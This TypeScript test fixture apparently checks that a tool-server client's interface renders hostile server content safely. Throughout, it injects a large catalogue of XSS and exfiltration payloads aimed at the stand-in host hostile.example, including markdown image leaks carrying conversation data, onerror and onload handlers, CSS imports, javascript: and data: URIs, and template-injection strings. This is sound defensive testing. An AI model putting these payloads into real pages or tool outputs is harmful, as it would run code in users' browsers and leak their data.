/**
 * A world in which every text of a server wants to load, run or open something when it is shown. All addresses are of
 * `hostile.example`, so that whoever looks at the requests of the page sees at once what got out.
 */
import { TERMINAL, WINDOW } from './callers'
import { NOTHING_MORE } from './nothingMore'
import type {
  ActivityDetail,
  Content,
  Grant,
  Label,
  PromptResult,
  PromptSpec,
  Question,
  ResourceResult,
  ServerView,
  ToolResult,
  ToolSpec,
  ToolView,
} from '../types.gen'
import type { Replies } from '../fake'
import { callSubject } from './question'
import { assistant } from './sampleAssistants'
import { confinementView } from './sampleConfinement'
import { conversation, given, helped, material, reply, said, taskCall } from './sampleConversations'
import { HOME } from './sampleGrants'
import type { Offered, World } from './world'

const AT = 'https://hostile.example'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran('svg')"><image href="${AT}/svg.png"/><script>window.ran('svg script')</script></svg>`

/** Every way in which a text gets a careless viewer to load, run or open something. */
const ATTACKS = [
  `![a picture](${AT}/markdown.png?conversation={all})`,
  `[![linked](${AT}/linked.png)](${AT}/link)`,
  `![reference][far]\n\n[far]: ${AT}/reference.png`,
  `<img src="${AT}/img.png" srcset="${AT}/srcset.png 2x" onerror="window.ran('img')">`,
  SVG,
  `<iframe src="${AT}/frame"></iframe><object data="${AT}/object"></object><embed src="${AT}/embed">`,
  `<video poster="${AT}/poster.png" src="${AT}/video.mp4" autoplay></video><audio src="${AT}/audio.mp3" autoplay></audio>`,
  `<link rel="stylesheet" href="${AT}/style.css"><link rel="preconnect" href="${AT}"><style>@import url(${AT}/import.css); body { background: url(${AT}/background.png) }</style>`,
  `<div style="background-image: url(${AT}/inline.png)">x</div>`,
  `<script src="${AT}/script.js"></script><script>window.ran('script')</script>`,
  `<meta http-equiv="refresh" content="0; url=${AT}/refresh"><base href="${AT}/">`,
  `<form action="${AT}/form"><input autofocus onfocus="window.ran('focus')"></form>`,
  `<a href="javascript:window.ran('link')" ping="${AT}/ping">press</a> [press](javascript:window.ran('markdown'))`,
  `<math><mtext><style><img src=x onerror="window.ran('math')"></style></mtext></math>`,
  '```mermaid\ngraph TD; A-->B; click A call ran("mermaid"); click B "' +
    AT +
    '/mermaid"\n%%{init: {"themeCSS": "@import url(' +
    AT +
    '/mermaid.css)"}}%%\n```',
  `$$\\href{${AT}/math}{x} \\includegraphics{${AT}/math.png}$$`,
  `\\[\\href{javascript:window.ran('formula')}{x}\\]`,
  `\\(\\style{background: url(${AT}/formula.png)}{x} \\class{x}{y}\\) \\(\\text{<img src=x onerror="window.ran('formula text')">}\\)`,
  '$$\\def\\a{\\a\\a}\\a$$ \\(\\char"202E x\\) \\(\\kern-999em\\color{white}\\boxed{x}\\)',
  `\`\`\`html\n<img src="${AT}/code.png" onerror="window.ran('code')"><script>window.ran('code')</script>\n\`\`\``,
  `data:text/html,<script>window.ran('data')</script>`,
  `javascript:window.ran('bare')`,
  `{{constructor.constructor('window.ran("template")')()}} \${window.ran('literal')} <%= window.ran('erb') %>`,
]

const OF_NOBODY: Label = { origins: [], trust: 'steering', confidentiality: 'private' }

/** All of it in one text. */
const ATTACK = ATTACKS.join('\n\n')

const content: Content[] = [
  { kind: 'text', text: ATTACK },
  { kind: 'text', text: JSON.stringify({ html: ATTACK }) },
  { kind: 'image', data: btoa(SVG), mime_type: 'image/svg+xml' },
  { kind: 'image', data: btoa(SVG), mime_type: 'image/png' },
  { kind: 'image', data: `${AT}/not-data.png`, mime_type: `image/png,${AT}/mime.png` },
  {
    kind: 'audio',
    data: btoa(ATTACKS[0] ?? ''),
    mime_type: `audio/wav" onerror="window.ran('audio')`,
  },
  {
    kind: 'resource_link',
    uri: `${AT}/resource`,
    name: ATTACK,
    title: ATTACK,
    description: ATTACK,
    mime_type: ATTACK,
  },
  {
    kind: 'resource_link',
    uri: "javascript:window.ran('resource link')",
    name: 'run',
    title: null,
    description: null,
    mime_type: null,
  },
  {
    kind: 'resource_link',
    uri: "data:text/html,<script>window.ran('data link')</script>",
    name: 'data',
    title: null,
    description: null,
    mime_type: null,
  },
  {
    kind: 'resource',
    uri: `ui://hostile/${ATTACKS[3] ?? ''}`,
    mime_type: 'text/html;profile=mcp-app',
    text: ATTACK,
    blob: null,
  },
  { kind: 'resource', uri: `${AT}/blob`, mime_type: 'text/html', text: null, blob: btoa(SVG) },
  { kind: 'unknown', value: { type: ATTACK, [ATTACK]: [ATTACK] } },
]

/** An answer of every kind. */
export function hostileResult(): ToolResult {
  return {
    content: structuredClone(content),
    structured: {
      rows: [
        { name: ATTACK, icon: `${AT}/row.png` },
        { name: SVG, icon: "javascript:window.ran('row')" },
      ],
      [ATTACK]: ATTACK,
    },
    is_error: true,
    notes: [{ kind: 'structured_invalid', problem: ATTACK }],
  }
}

/** What is read or filled in is hostile, too. */
export const hostileActs = (): Replies => ({
  read_resource: hostileResource(),
  get_prompt: hostilePrompt(),
})

/** A resource of every kind. */
const hostileResource = (): ResourceResult => ({
  contents: structuredClone(content),
  notes: [],
})

/** A prompt whose messages are of every kind. */
const hostilePrompt = (): PromptResult => ({
  description: ATTACK,
  messages: content.map((part) => ({ role: ATTACK, content: structuredClone(part) })),
  notes: [],
})

const icons = {
  icons: [{ src: `${AT}/icon.png` }, { src: `data:image/svg+xml;base64,${btoa(SVG)}` }],
}

function tool(name: string): ToolView {
  const spec: ToolSpec = {
    name,
    title: ATTACK,
    description: ATTACK,
    input_schema: {
      type: 'object',
      properties: {
        field: {
          type: 'string',
          title: ATTACK,
          description: ATTACK,
          default: ATTACK,
          enum: [ATTACK, SVG],
        },
      },
    },
    output_schema: { type: 'object', description: ATTACK },
    annotations: { title: ATTACK },
    meta: { [ATTACK]: ATTACK },
    extra: icons,
  }
  return {
    server: 'hostile',
    spec,
    fingerprint: `sha256:${'ba'.repeat(32)}`,
    standing: { kind: 'approved' },
    mark: { consequential: false, secret: false },
    on: true,
    always_shown: false,
    also_on: [],
    schema_problem: ATTACK,
    icon: `${AT}/tool-icon.png`,
  }
}

function offers(): Offered {
  const prompt: PromptSpec = {
    name: 'attack',
    title: ATTACK,
    description: ATTACK,
    arguments: [{ name: 'words', title: ATTACK, description: ATTACK, required: false }],
    extra: icons,
  }
  return {
    resources: [
      {
        uri: `${AT}/listed`,
        name: ATTACK,
        title: ATTACK,
        description: ATTACK,
        mime_type: ATTACK,
        size: 1,
        extra: icons,
      },
    ],
    templates: [
      {
        uri_template: `${AT}/{path}`,
        name: ATTACK,
        title: ATTACK,
        description: ATTACK,
        mime_type: ATTACK,
        extra: icons,
      },
    ],
    prompts: [prompt],
    watched: [],
    logged: [
      { at: 0, line: { level: 'error', logger: ATTACK, data: ATTACK } },
      { at: 1, line: { level: 'error', logger: null, data: { [ATTACK]: ATTACK } } },
    ],
    level: null,
    frames: [
      {
        number: 1,
        at: 0,
        sent: false,
        method: ATTACK,
        id: ATTACK,
        call: null,
        text: ATTACK,
        bytes: ATTACK.length,
        cut: false,
      },
    ],
  }
}

/** A form, an address and a wish for a model, all of them hostile. */
function hostileQuestions(): Question[] {
  const about = { asked_at: Date.now(), expires_at: Date.now() + 600_000, server: 'hostile' }
  const properties = {
    field: { type: 'string', title: ATTACK, description: ATTACK, default: ATTACK },
    choice: { type: 'string', enum: [ATTACK, SVG] },
  }
  return [
    {
      ...about,
      id: 'question-00000000000000b1',
      subject: {
        kind: 'form',
        during: [],
        form: { message: ATTACK, schema: { type: 'object', properties }, codex: null },
      },
    },
    {
      ...about,
      id: 'question-00000000000000b2',
      subject: {
        kind: 'url',
        during: [],
        ask: { message: ATTACK, url: `${AT}/ask?${SVG}`, id: null },
        host: 'hostile.example',
        look_alike: false,
      },
    },
    {
      ...about,
      id: 'question-00000000000000b3',
      subject: {
        kind: 'sample',
        during: [],
        sample: {
          params: { messages: [{ role: ATTACK, content: { type: 'text', text: ATTACK } }] },
        },
        model: null,
        budget: { requests: 0, tokens: 0, per_reply: 0 },
      },
    },
    {
      ...about,
      id: 'question-00000000000000b4',
      subject: callSubject({
        call: 'call-00000000000000b4',
        caller: TERMINAL,
        tool: tool('hostile').spec,
        arguments: { field: ATTACK },
        reason: { kind: 'not_allowed_yet' },
        last_time: { field: SVG, [ATTACK]: ATTACK },
      }),
    },
    {
      ...about,
      id: 'question-00000000000000b5',
      subject: {
        kind: 'sample',
        during: [],
        sample: {
          params: {
            messages: [{ role: ATTACK, content: { type: 'text', text: ATTACK } }],
            systemPrompt: ATTACK,
          },
        },
        model: ATTACK,
        budget: { requests: 1, tokens: 1, per_reply: 1 },
      },
    },
    {
      ...about,
      id: 'question-00000000000000b6',
      subject: {
        kind: 'sample_reply',
        during: [],
        sample: { params: { messages: [] } },
        model: ATTACK,
        reply: ATTACK,
      },
    },
  ]
}

/** A call of its tool that failed, with its words everywhere. */
function happened(): ActivityDetail {
  return {
    row: {
      seq: 9_999,
      at: Date.now(),
      what: 'call',
      caller: WINDOW,
      server: 'hostile',
      tool: ATTACK,
      outcome: 'failed',
      reason: 'allowed_earlier',
      approver: null,
      duration_ms: 1,
      waited_ms: 0,
      ran_ms: 1,
      ...NOTHING_MORE,
      subject: ATTACK,
    },
    call: 'call-00000000000000b5',
    whole_kept: false,
    arguments: { [ATTACK]: ATTACK },
    permission: null,
    approver: null,
    refusal: { kind: 'arguments_invalid', problems: [ATTACK] },
    error: ATTACK,
    records: [ATTACK],
  }
}

/** What was allowed of it. */
function allowed({ spec, fingerprint }: ToolView): Grant {
  const about = {
    id: 'grant-00000000000000b6',
    effect: { kind: 'deny' as const, reason: ATTACK },
    caller: WINDOW,
    server: 'hostile',
    launch_fingerprint: fingerprint,
  }
  const limits = [{ argument: ATTACK, allowed: { kind: 'one_of' as const, values: [ATTACK, SVG] } }]
  return {
    ...about,
    tool: { ...spec, name: ATTACK },
    tool_fingerprint: fingerprint,
    arguments: { kind: 'within', limits },
    scope: { kind: 'workspace' },
    workspace: HOME,
    origin: { kind: 'question', question: 'question-00000000000000b4' },
    made_at: 0,
    used: 1,
    last_used_at: null,
    revoked_at: null,
  }
}

/** The world with one server more, all of whose texts are hostile. */
export function hostileWorld(world: World): World {
  const like = world.servers.find((server) => server.id === 'files') as ServerView
  const claims = {
    name: ATTACK,
    version: ATTACK,
    title: ATTACK,
    instructions: ATTACK,
    protocol: '2025-11-25',
    icon: 'https://evil.example/icon.png',
  }
  return {
    ...world,
    servers: [...world.servers, { ...like, id: 'hostile', claims, tools: 1 }],
    tools: [...world.tools, tool('hostile')],
    logs: { ...world.logs, hostile: ATTACK.split('\n') },
    assistants: [
      {
        id: 'assistant-hostile',
        settings: assistant({ name: 'Hostile', description: ATTACK, instructions: ATTACK }),
        added_at: 0,
      },
    ],
    conversations: [
      conversation('hostile', ATTACK),
      conversation('task-hostile', ATTACK, { task_of: 'hostile', assistant: 'assistant-hostile' }),
      ...world.conversations,
    ],
    said: {
      ...world.said,
      hostile: [
        said(ATTACK),
        reply(
          { kind: 'reasoning', text: ATTACK },
          { kind: 'text', text: ATTACK },
          taskCall('task-hostile', 'Hostile', { task: ATTACK }, helped(ATTACK, OF_NOBODY)),
        ),
      ],
      'task-hostile': [
        given(ATTACK, [material(ATTACK, ATTACK, OF_NOBODY)]),
        reply({ kind: 'text', text: ATTACK }),
      ],
    },
    questions: hostileQuestions(),
    activity: [happened(), ...world.activity],
    grants: [allowed(tool('hostile')), ...world.grants],
    clients: {
      ...world.clients,
      clients: world.clients.clients.map((client) => ({
        ...client,
        connections: ATTACKS.map((says) => ({ by: 'http' as const, since: 0, says })),
      })),
    },
    applications: world.applications.map((application) => ({
      ...application,
      path: `/${ATTACK}`,
      backup: ATTACK,
      connection: { kind: 'unreadable' as const, problem: ATTACK },
    })),
    bypasses: world.bypasses.map((bypass) => ({
      ...bypass,
      project: ATTACK,
      source_name: ATTACK,
      runs: ATTACK,
    })),
    offers: { ...world.offers, hostile: offers() },
    confinements: {
      ...world.confinements,
      hostile: confinementView({
        paths: [{ path: `/${ATTACK}`, change: true, because: 'argument' }],
        withheld: [`/home/${ATTACK}`],
        hidden: [`/srv/${ATTACK}`],
        refused: [{ name: ATTACK, times: 1, because: 'not_listed', problem: ATTACK }],
        refused_files: [{ path: ATTACK, times: 1 }],
      }),
    },
  }
}
